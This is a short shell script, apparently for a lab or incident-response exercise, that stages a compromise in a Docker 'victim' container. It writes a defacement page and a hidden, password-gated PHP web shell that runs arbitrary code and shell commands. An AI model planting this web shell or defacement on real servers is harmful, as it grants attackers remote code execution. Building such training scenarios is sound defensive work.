#!/bin/sh
# The compromise: defaced home page and a PHP web shell hidden in uploads/,
# as an attacker with a file-upload bug would leave them. Runs through docker exec.
set -eu
victim=$1
docker exec -i "$victim" sh -eu <<'ATTACK'
cat > /var/www/index.html <<'HTML'
<!doctype html>
<html><body style="background:black;color:lime">
<h1>HACKED BY xX_sh4d0w_Xx</h1>
<p>your security is a joke</p>
</body></html>
HTML
cat > /var/www/uploads/.cache.php <<'PHP'
<?php
if (isset($_REQUEST['k']) && md5($_REQUEST['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') {
    @eval(base64_decode($_POST['p']));
    echo shell_exec($_GET['c']);
}
?>
PHP
ATTACK
